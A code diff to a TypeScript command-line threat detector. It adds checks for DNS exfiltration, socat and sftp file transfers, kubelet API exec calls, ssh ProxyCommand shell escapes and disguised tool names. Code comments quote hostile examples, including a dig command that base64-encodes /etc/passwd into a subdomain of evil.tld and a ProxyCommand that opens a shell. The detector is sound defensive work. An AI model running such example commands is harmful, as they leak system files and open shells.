@@ -4,7 +4,13 @@
  */
 import type { AncestorInfo, ExecEvent, Finding, ProcessInfo, Severity, Utility, Verdict } from "../model.js";
 import { maxSeverity, severityRank } from "../severity.js";
-import { describeCategory, executableName, lookupUtility, MULTICALL_BINARIES } from "./catalogue.js";
+import {
+  describeCategory,
+  executableName,
+  lookupPattern,
+  lookupUtility,
+  MULTICALL_BINARIES,
+} from "./catalogue.js";
 import {
   type CommandSegment,
   commandSegments,
@@ -219,7 +225,7 @@ function sessionCandidates(
     const words = segment.argv.slice(start);
     const head = words[0];
     if (head === undefined) continue;
-    const utility = lookupUtility(head);
+    const utility = lookupCommand(head);
     if (utility === undefined) continue;
     const multicall = start > 0 && MULTICALL_BINARIES.has(executableName(segment.argv[start - 1]!));
     const exe = multicall ? segment.argv[start - 1]! : head;
@@ -244,6 +250,16 @@ function sessionCandidates(
     });
   }
   return out;
+}
+
+/** A command word's utility: by its exact name, or by the shell pattern it is (`/???/???/c?rl`). */
+function lookupCommand(word: string): Utility | undefined {
+  return lookupUtility(word) ?? lookupPattern(word);
+}
+
+/** Names of one tool: a netcat is a netcat whatever its package calls it (nc, nc.openbsd, ncat…). */
+function sameTool(a: string | undefined, b: string): boolean {
+  return a === b || (a !== undefined && NETCATS.has(a) && NETCATS.has(b));
 }
 
 function ancestorList(event: ExecEvent): AncestorInfo[] {
@@ -285,7 +301,7 @@ function ancestorContext(event: ExecEvent, budget: SegmentBudget): AncestorConte
     for (const segment of segments) {
       if (segment.depth === 0) continue;
       const words = commandWords(segment.argv);
-      const utility = words[0] !== undefined ? lookupUtility(words[0]) : undefined;
+      const utility = words[0] !== undefined ? lookupCommand(words[0]) : undefined;
       if (utility === undefined) continue;
       const feed = feedsInterpreter(segment);
       if (feed !== undefined)
@@ -489,7 +505,15 @@ function assess(
     break;
   }
   const targets = targetsOf(name, utility, parsed);
-  const runtimeHosts = parsed.operands.map(substitutedHost).filter((h): h is string => h !== undefined);
+  // What the shell expanded before the process started is only visible in the command line that ran
+  // it: `sh -c 'dig $(cat /etc/passwd | base64 | head -c 60).evil.tld'` shows the data, dig's argv not.
+  const written = candidate.segment === undefined ? writtenInAncestors(candidate, context) : [];
+  const writtenArgs = written.map((s) =>
+    parseArgs(commandWords(s.argv).slice(1, MAX_ARGS + 1), specFor(name)),
+  );
+  const runtimeHosts = [parsed, ...writtenArgs]
+    .flatMap((p) => p.operands.map(substitutedHost))
+    .filter((h): h is string => h !== undefined);
   for (const host of new Set([...targets.hosts, ...runtimeHosts])) {
     const look = exfiltrationLook(host);
     if (look === undefined) continue;
@@ -498,8 +522,24 @@ function assess(
     add("high", `${name} ${what} like DNS exfiltration (${look}): ${quote(host)}`);
     break;
   }
-  const upload = uploads(name, parsed, segment);
+  const upload =
+    uploads(name, parsed, segment) ??
+    writtenArgs.map((p) => commandOutputSent(p)).find((u) => u !== undefined);
   if (upload !== undefined) add("high", `${name} ${upload}`);
+  const kubelet = kubeletCall(name, parsed);
+  if (kubelet !== undefined) add(kubelet.severity, kubelet.reason);
+  const shown = segment ?? written[0];
+  const head = shown === undefined ? undefined : commandWords(shown.argv)[0];
+  if (head !== undefined && lookupUtility(head) === undefined && lookupPattern(head) !== undefined) {
+    add(
+      "high",
+      `${name} is called through a shell pattern (${quote(head)}), which hides its name from matching`,
+    );
+  }
+  const stage = shown === undefined ? undefined : decodedStageOf(shown);
+  if (stage !== undefined) {
+    add("high", `${name} runs in a ${stage}-encoded script that the command line decodes and executes`);
+  }
   for (const output of outputs) {
     const resolved = resolvePath(candidate.cwd, output.path);
     if (resolved === undefined) continue;
@@ -565,8 +605,55 @@ function sameCommandInAncestors(candidate: Candidate, context: AncestorContext):
     if (segment.depth === 0) continue;
     const words = commandWords(segment.argv);
     const head = words[0];
-    if (head === undefined || lookupUtility(head)?.name !== candidate.utility.name) continue;
+    if (head === undefined || !sameTool(lookupCommand(head)?.name, candidate.utility.name)) continue;
     if (words.slice(1).join(" ") === want) return segment;
+  }
+  return undefined;
+}
+
+/** Segments below the top level of the ancestors' command lines that run the same tool, at most 64. */
+function writtenInAncestors(candidate: Candidate, context: AncestorContext): CommandSegment[] {
+  const out: CommandSegment[] = [];
+  for (const segment of context.segments) {
+    if (segment.depth === 0) continue;
+    const head = commandWords(segment.argv)[0];
+    if (head === undefined || !sameTool(lookupCommand(head)?.name, candidate.utility.name)) continue;
+    out.push(segment);
+    if (out.length >= 64) break;
+  }
+  return out;
+}
+
+/** The encoding of a decoded script that `segment` runs in, looking up its payload chain. */
+function decodedStageOf(segment: CommandSegment): string | undefined {
+  for (let node: CommandSegment | undefined = segment, k = 0; node !== undefined && k < 16; k++) {
+    const runner: CommandSegment | undefined = node.payloadOf;
+    if (runner?.decodedStage !== undefined) return runner.decodedStage;
+    node = runner ?? node.substitutionOf?.segment;
+  }
+  return undefined;
+}
+
+/**
+ * Calls of the kubelet's API (port 10250, read-only 10255) by a download tool: `/run/…` and `/exec/…`
+ * run commands in other pods' containers (Microsoft's threat matrix for Kubernetes, MITRE T1609);
+ * `/pods`, `/runningpods` and `/configz` list what runs on the node. Health checks are left alone.
+ */
+function kubeletCall(name: string, parsed: ParsedArgs): Indicator | undefined {
+  if (name !== "curl" && name !== "wget" && name !== "wget2") return undefined;
+  for (const operand of [...parsed.operands, ...options(parsed, "--url").map((o) => o.value ?? "")]) {
+    const match = /^(?:https?:\/\/)?(?:\[[^\]]+\]|[^/:?#]+):(10250|10255)(\/[^?#]*)?/i.exec(operand);
+    if (match === null) continue;
+    const path = match[2] ?? "/";
+    if (/^\/(?:run|exec|attach|portForward|cri)\//i.test(path)) {
+      return {
+        severity: "critical",
+        reason: `${name} runs a command through the kubelet API (${quote(operand)})`,
+      };
+    }
+    if (/^\/(?:pods|runningpods|configz|debug|containerLogs|logs)(?:\/|$)/i.test(path)) {
+      return { severity: "high", reason: `${name} queries the kubelet API (${quote(operand)})` };
+    }
   }
   return undefined;
 }
@@ -709,6 +796,25 @@ function executesCommand(name: string, parsed: ParsedArgs): string | undefined {
     return parsed.options.find((o) => /^--on-(?:bt-)?download-/.test(o.name) && o.value !== undefined)
       ?.written;
   }
+  if (name === "wget" || name === "wget2") {
+    // --use-askpass=COMMAND runs COMMAND to ask for credentials; `-e use_askpass=…` is the same.
+    const askpass = option(parsed, "--use-askpass");
+    if (askpass?.value !== undefined && askpass.value !== "") return askpass.written;
+    return options(parsed, "-e", "--execute").find((o) => /^\s*use_?askpass\s*=\s*\S/i.test(o.value ?? ""))
+      ?.written;
+  }
+  if (name === "scp" || name === "sftp" || name === "rsync") {
+    // ssh's ProxyCommand/LocalCommand/KnownHostsCommand are run by a local shell (GTFOBins scp, sftp).
+    const ssh = sshCommandOption(parsed);
+    if (ssh !== undefined) return ssh;
+  }
+  if (name === "sftp") {
+    // -S runs another program in place of ssh, -D a local sftp server (GTFOBins sftp).
+    const program = option(parsed, "-S", "-D");
+    const first = program?.value?.trim().split(/\s+/)[0];
+    if (first !== undefined && !/^(?:ssh|sftp-server)$/.test(executableName(first))) return program?.written;
+    return undefined;
+  }
   if (name === "rsync" || name === "scp") {
     // The "remote shell" is normally ssh; any other program (sh -c …) is a local command run by the tool.
     const shell = option(parsed, name === "rsync" ? "-e" : "-S", "--rsh");
@@ -720,6 +826,25 @@ function executesCommand(name: string, parsed: ParsedArgs): string | undefined {
   }
   if (name === "lftp") {
     return options(parsed, "-c", "-e").find((o) => /(?:^|;)\s*!/.test(o.value ?? ""))?.written;
+  }
+  return undefined;
+}
+
+/** An ssh `-o` option that runs a local command: `-o ProxyCommand=;sh 0<&2 1>&2`, `-oLocalCommand=…`. */
+function sshCommandOption(parsed: ParsedArgs): string | undefined {
+  for (const o of options(parsed, "-o")) {
+    const match =
+      /^\s*(ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)\s*[=\s]\s*(.*)$/i.exec(
+        o.value ?? "",
+      );
+    if (match === null) continue;
+    const key = match[1]!.toLowerCase();
+    const value = match[2]!.trim();
+    if (key === "permitlocalcommand" || value === "" || value.toLowerCase() === "none") continue;
+    // `ProxyCommand ssh -W %h:%p bastion` (and `nc %h %p`) is the ordinary jump host.
+    if (key === "proxycommand" && /^(?:\S*\/)?(?:ssh|nc|ncat|netcat|connect-proxy|corkscrew)\s/.test(value))
+      continue;
+    return o.written;
   }
   return undefined;
 }
@@ -756,6 +881,43 @@ function remoteHost(operand: string): string | undefined {
   const match = /^(?:[^@/:]+@)?(\[[^\]]+\]|[^/:[\]]+):/.exec(operand);
   if (match === null) return undefined;
   return match[1]!.replace(/^\[|\]$/g, "");
+}
+
+const SOCAT_NETWORK =
+  /^(?:(?:tcp|udp|sctp|dccp)[46]?(?:-connect|-sendto|-datagram|-listen|-l|-recv|-recvfrom)?|openssl(?:-connect|-listen)?|ssl(?:-connect)?|socks[45]a?(?:-connect)?|proxy(?:-connect)?|vsock(?:-connect)?)$/;
+
+/**
+ * The file addresses of a socat invocation and which way data flows through them (GTFOBins socat
+ * file-download `open:FILE,creat`, file-upload `file:FILE`): with -u data goes from the first address to
+ * the second, with -U the other way, else both ways. Only when the other address is a network one.
+ */
+function socatFiles(parsed: ParsedArgs): { receives: string[]; sends: string[] } {
+  const out = { receives: [] as string[], sends: [] as string[] };
+  const addresses = parsed.operands.slice(0, 2).map((operand) => operand.split("!!")[0] ?? "");
+  if (addresses.length < 2) return out;
+  const kind = (address: string): { file?: string; network: boolean; createOnly?: boolean } => {
+    const colon = address.indexOf(":");
+    const type = colon === -1 ? "" : address.slice(0, colon).toLowerCase();
+    if (colon === -1 || type.includes("/")) {
+      // A bare path is GOPEN.
+      return address.includes("/") ? { file: address.split(",")[0]!, network: false } : { network: false };
+    }
+    const params = address.slice(colon + 1).split(",")[0] ?? "";
+    if (/^(?:open|file|gopen)$/.test(type)) return { file: params, network: false };
+    // CREATE truncates its file: data only goes into it.
+    if (/^creat(?:e)?$/.test(type)) return { file: params, network: false, createOnly: true };
+    return { network: SOCAT_NETWORK.test(type) };
+  };
+  const [left, right] = [kind(addresses[0]!), kind(addresses[1]!)];
+  const forward = option(parsed, "-U") === undefined;
+  const backward = option(parsed, "-u") === undefined;
+  const flow = (from: typeof left, to: typeof right) => {
+    if (from.network && to.file !== undefined) out.receives.push(to.file);
+    if (from.file !== undefined && to.network && from.createOnly !== true) out.sends.push(from.file);
+  };
+  if (forward) flow(left, right);
+  if (backward) flow(right, left);
+  return out;
 }
 
 function socatTargets(parsed: ParsedArgs): { hosts: string[]; via: string[] } {
@@ -999,6 +1161,23 @@ function downloadOutputs(name: string, parsed: ParsedArgs, segment: CommandSegme
       if (operands[0] !== undefined && /^[a-z]+:\/\//i.test(operands[0])) into(".", inCwd);
       else if (operands[1] !== undefined) dir(operands[1], operands[1]);
       break;
+    case "socat":
+      for (const path of socatFiles(parsed).receives) file(path, path);
+      break;
+    case "sftp": {
+      // `sftp host:remote local` fetches remote into local (Atomic T1105 sftp pull).
+      if (operands.length >= 2 && hostOf(operands[0]!) !== undefined && /:./.test(operands[0]!)) {
+        file(operands[1], operands[1]!);
+      }
+      for (const command of sftpBatch(segment)) {
+        const [verb, remote, local] = command;
+        if (verb === "get" || verb === "reget") {
+          const target = local ?? (remote === undefined ? undefined : executableName(remote));
+          if (target !== undefined) file(target, `${verb} ${remote}${local ? ` ${local}` : ""}`);
+        }
+      }
+      break;
+    }
     case "scp":
     case "rsync": {
       const destination = operands[operands.length - 1];
@@ -1099,6 +1278,16 @@ function uploads(name: string, parsed: ParsedArgs, segment: CommandSegment | und
       if (!operands.slice(0, -1).some((o) => remoteHost(o) === undefined)) return undefined;
       return `copies local files to a remote host (${quote(destination)})`;
     }
+    case "socat": {
+      const sent = socatFiles(parsed).sends.find((path) => !NOT_FILES.has(path));
+      if (sent !== undefined) return `sends a file (${quote(sent)})`;
+      break;
+    }
+    case "sftp": {
+      const put = sftpBatch(segment).find(([verb]) => verb === "put" || verb === "reput");
+      if (put !== undefined) return `uploads a file (${quote(put.join(" "))})`;
+      return undefined;
+    }
     case "ftpput":
     case "ncftpput":
       return parsed.operands.length >= 2
@@ -1137,6 +1326,33 @@ function commandOutputSent(parsed: ParsedArgs): string | undefined {
   }
   const operand = parsed.operands.find((value) => READS_FILES.test(value));
   return operand === undefined ? undefined : `sends command output in its URL (${quote(operand)})`;
+}
+
+/**
+ * The batch commands an sftp reads from its input, when the command line shows them: a here-string
+ * (`sftp host <<< $'put /tmp/x'`, Atomic T1105 sftp push) or an `echo`/`printf` piped into it. Each
+ * command as its words (`["get", "/x", "/tmp/x"]`).
+ */
+function sftpBatch(segment: CommandSegment | undefined): string[][] {
+  if (segment === undefined) return [];
+  const texts = segment.redirects.filter((r) => r.op === "<<<").map((r) => r.target);
+  const from = segment.pipedFrom;
+  if (from !== undefined) {
+    const words = commandWords(from.argv);
+    if (words[0] === "echo" || words[0] === "printf")
+      texts.push(words.slice(1).join(" ").replace(/\\n/g, "\n"));
+  }
+  const out: string[][] = [];
+  for (const text of texts) {
+    for (const line of text.slice(0, 64 * 1024).split(/[\n;]/)) {
+      const words = line
+        .trim()
+        .split(/\s+/)
+        .filter((w) => w !== "");
+      if (words.length > 0 && words.length < 16) out.push(words);
+    }
+  }
+  return out;
 }
 
 /** Each path the command lines execute, with the segments that execute it. */
